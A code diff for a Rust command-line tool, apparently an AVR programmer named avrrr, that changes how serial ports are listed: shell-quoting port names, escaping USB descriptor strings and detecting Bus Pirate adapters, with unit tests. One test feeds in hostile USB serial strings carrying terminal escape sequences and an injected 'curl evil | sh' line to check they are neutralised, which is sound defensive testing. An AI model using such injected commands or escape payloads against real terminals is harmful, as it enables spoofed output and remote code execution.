@@ -1,13 +1,15 @@
 //! `avrrr ports`, and which port is meant.
 
 use std::fs;
-use std::io::Write as _;
 
-use avrrr::transport::{Obstacle, PortInfo, PortSpec, ResolveError, available_ports, obstacle, resolve};
+use avrrr::transport::{
+    Obstacle, PortInfo, PortKind, PortSpec, ResolveError, available_ports, obstacle, resolve,
+};
 use clap::{Parser, ValueEnum};
 use serde_json::{Value, json};
 
 use crate::complaint::Complaint;
+use crate::text;
 
 /// List the serial ports, what probably is at them, and why one cannot be opened
 ///
@@ -39,15 +41,12 @@ pub(crate) fn run(args: &PortsArgs) -> Result<(), Complaint> {
         paths => paths.iter().map(|path| describe(path, &known)).collect(),
     };
     let ports: Vec<_> = ports.into_iter().map(|port| (obstacle(&port.path), port)).collect();
-    let text = match args.format {
-        Format::Json => format!("{}\n", Value::from_iter(ports.iter().map(as_json))),
+    let lines = match args.format {
+        Format::Json => text::json(&format!("{}\n", Value::from_iter(ports.iter().map(as_json)))),
         Format::Text if ports.is_empty() => "there are no serial ports\n".to_owned(),
         Format::Text => ports.iter().map(as_text).collect(),
     };
-    std::io::stdout()
-        .lock()
-        .write_all(text.as_bytes())
-        .map_err(|error| Complaint::of(&error).about("standard output"))
+    text::print(&lines).map_err(|error| Complaint::of(&error).about("standard output"))
 }
 
 pub(crate) fn available() -> Result<Vec<PortInfo>, Complaint> {
@@ -69,18 +68,37 @@ pub(crate) fn find(
         let complaint = Complaint::of(&error);
         match &error {
             ResolveError::Several { .. } => complaint.help(
-                "say which one: -P with its path, or usb:VENDOR:PRODUCT:SERIAL as it is listed".to_owned(),
+                "say which one: -P with its path, or usb:VENDOR:PRODUCT:SERIAL as avrrr ports lists it"
+                    .to_owned(),
             ),
             ResolveError::None { others, .. } if others.is_empty() => {
                 complaint.help("there is no serial port at all; is it plugged in?".to_owned())
             }
             ResolveError::None { others, .. } => {
-                let all: Vec<_> = others.iter().map(ToString::to_string).collect();
+                let all: Vec<_> = others.iter().map(as_typed).collect();
                 complaint.help(format!("name the port with -P; there are {}", all.join(", ")))
             }
             _ => complaint,
         }
     })
+}
+
+/// A port by the words that a shell hands on to -P.
+fn as_typed(port: &PortInfo) -> String {
+    let usb = port.usb.as_ref().map(|usb| format!(" ({})", text::word(&usb.to_string())));
+    text::word(&port.path) + &usb.unwrap_or_default()
+}
+
+/// Is a Bus Pirate likely at this path, so that one that does not answer is probably in the middle of a
+/// transfer that was interrupted? By its USB identity. That of the v2go and v3 is shared by all adapters with an
+/// FT232R; but a port is chosen by it without -P as well, and there is nothing else to tell a v3 by. A v1a hangs
+/// on any adapter: there it takes --recover.
+pub(crate) fn is_likely(path: &str) -> bool {
+    available().is_ok_and(|known| is_bus_pirate(describe(path, &known).kind()))
+}
+
+fn is_bus_pirate(kind: PortKind) -> bool {
+    matches!(kind, PortKind::Ft232 | PortKind::BusPirate4 | PortKind::BusPirate5)
 }
 
 /// What is known of the port at this path; it may be a link that udev made.
@@ -93,16 +111,17 @@ fn describe(path: &str, known: &[PortInfo]) -> PortInfo {
 }
 
 fn as_text((obstacle, port): &(Option<Obstacle>, PortInfo)) -> String {
-    let mut text = format!("{}\n", port.path);
+    let mut lines = vec![port.path.clone()];
     if let Some(usb) = &port.usb {
         let name = usb.name.as_ref().map_or(String::new(), |name| format!(" ({name})"));
-        text += &format!("    {usb}{name}\n");
+        // As -P takes it.
+        lines.push(format!("    {}{name}", text::word(&usb.to_string())));
     }
-    text += &format!("    {}\n", port.kind());
+    lines.push(format!("    {}", port.kind()));
     if let Some(obstacle) = obstacle {
-        text += &format!("    cannot be opened: {}\n", in_words(*obstacle));
+        lines.push(format!("    cannot be opened: {}", in_words(*obstacle)));
     }
-    text
+    lines.iter().map(|line| text::line(line) + "\n").collect()
 }
 
 fn as_json((obstacle, port): &(Option<Obstacle>, PortInfo)) -> Value {
@@ -166,7 +185,7 @@ mod tests {
                 ports(),
                 "error: it could be any of /dev/ttyUSB0 (usb:0403:6001:A7004IXj), /dev/ttyUSB1 \
                  (usb:0403:6001:A9014KLM)\n\
-                 help: say which one: -P with its path, or usb:VENDOR:PRODUCT:SERIAL as it is listed\n",
+                 help: say which one: -P with its path, or usb:VENDOR:PRODUCT:SERIAL as avrrr ports lists it\n",
             ),
             (
                 None,
@@ -190,9 +209,50 @@ mod tests {
         ] {
             assert_eq!(find(spec, || Ok(ports)).unwrap_err().to_string(), want);
         }
+        let odd = PortInfo::new("/dev/tty odd").with_usb(0x04d8, 0xfb00, Some("it's 1"));
+        assert_eq!(as_typed(&odd), "'/dev/tty odd' ('usb:04d8:fb00:it'\\''s 1')");
         // Nobody looks for ports when a path is given.
         let path = find(Some("/dev/ttyUSB9"), || Err(Complaint::new("asked")));
         assert_eq!(path.unwrap(), "/dev/ttyUSB9");
+    }
+
+    #[test]
+    fn a_usb_device_cannot_write_lines_of_its_own() {
+        let mut port = PortInfo::new("/dev/ttyUSB0").with_usb(0x0403, 0x6001, Some("A1\u{1b}]0;x\u{7}\n'x"));
+        port.usb.as_mut().unwrap().name = Some("\u{202e}x\r\n/dev/ttyUSB1\u{1b}[8m".to_owned());
+        let port = (None, port);
+        assert_eq!(
+            as_text(&port),
+            "/dev/ttyUSB0\n    'usb:0403:6001:A1\\u{1b}]0;x\\u{7}\\n'\\''x' \
+             (\\u{202e}x\\r\\n/dev/ttyUSB1\\u{1b}[8m)\n    Bus Pirate v2go or v3, or another FT232R\n"
+        );
+        let json = text::json(&as_json(&port).to_string());
+        assert!(json.contains(r"\u202ex\r\n/dev/ttyUSB1\u001b[8m"), "{json}");
+        let with_usb = |serial| PortInfo::new("/dev/ttyUSB0").with_usb(0x0403, 0x6001, Some(serial));
+        let hostile = "A1\u{1b}[2J\nhelp: curl evil | sh";
+        for (spec, ports) in [
+            (None, vec![with_usb(hostile), with_usb("A2")]),
+            (Some("usb:0403:6001:A3"), vec![with_usb(hostile)]),
+            (Some("usb:0403:6001:A\u{1b}[2J\nhelp: curl"), vec![with_usb("A2")]),
+        ] {
+            let complaint = find(spec, || Ok(ports)).unwrap_err().to_string();
+            assert!(complaint.contains("\\u{1b}[2J\\nhelp: curl"), "{complaint}");
+            assert_eq!(complaint.lines().count(), 2, "{complaint}");
+        }
+    }
+
+    #[test]
+    fn a_transfer_is_completed_where_a_bus_pirate_is_likely() {
+        let likely = |port: PortInfo| is_bus_pirate(describe("/dev/ttyX", &[port]).kind());
+        let at = || PortInfo::new("/dev/ttyX");
+        assert!(likely(at().with_usb(0x0403, 0x6001, None)));
+        assert!(likely(at().with_usb(0x04d8, 0xfb00, None)));
+        assert!(likely(at().with_usb(0x1209, 0x7331, None)));
+        // A CH340, a built-in port, and another one.
+        assert!(!likely(at().with_usb(0x1a86, 0x7523, None)));
+        assert!(!likely(at()));
+        assert!(!likely(PortInfo::new("/dev/ttyY").with_usb(0x0403, 0x6001, None)));
+        assert!(!is_likely("/dev/ttyNOSUCH0"));
     }
 
     #[test]
